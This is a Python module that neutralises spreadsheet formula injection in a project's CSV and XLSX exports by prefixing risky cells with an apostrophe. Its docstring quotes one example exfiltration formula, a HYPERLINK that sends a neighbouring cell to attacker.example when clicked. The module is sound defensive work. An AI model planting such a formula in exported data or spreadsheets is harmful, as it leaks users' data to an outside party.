"""Every CSV (and, when one is added, every XLSX) the project writes goes through here.

A cell whose text begins with = + - @, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula, so text that a user typed
(a reason for access, a name, a recipient) could run as one in an analyst's
spreadsheet: =HYPERLINK("http://attacker.example/?leak="&B2,"Open") sends the
row next to it away when clicked. Such text is written with a leading
apostrophe, which spreadsheets show as text and do not evaluate (OWASP,
"CSV Injection"). Numbers written as numbers are left alone.

A test (core/tests/test_spreadsheets.py) fails if anything outside this module
uses csv.writer, csv.DictWriter, openpyxl, xlsxwriter or pandas' to_csv/to_excel,
and exercises every export door that calls this module.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should hold it: text that would start a formula is made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def csv_text(rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str]) -> str:
    """Rows (dicts keyed by fieldnames) as CSV text with a header row; every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(fieldnames))
    for row in rows:
        writer.writerow(safe_row(row.get(name, "") for name in fieldnames))
    return buffer.getvalue()


def csv_rows(rows: Iterable[Sequence[Any]]) -> str:
    """Rows (lists, the first perhaps a title or headers) as CSV text; every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(safe_row(row))
    return buffer.getvalue()


def xlsx_bytes(
    sheets: Sequence[tuple[str, Iterable[Sequence[Any]]]], *, title: str = "", bold_rows: Sequence[int] = ()
) -> bytes:
    """An XLSX workbook, one (name, rows) per sheet; every cell made safe; bold_rows (0-based) in bold."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets:
        sheet = book.create_sheet(name[:31])
        for index, row in enumerate(rows):
            sheet.append(safe_row(row))
            if index in bold_rows:
                for cell in sheet[sheet.max_row]:
                    cell.font = Font(bold=True)
        sheet.column_dimensions["A"].width = 42
    if title:
        book.properties.title = title
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
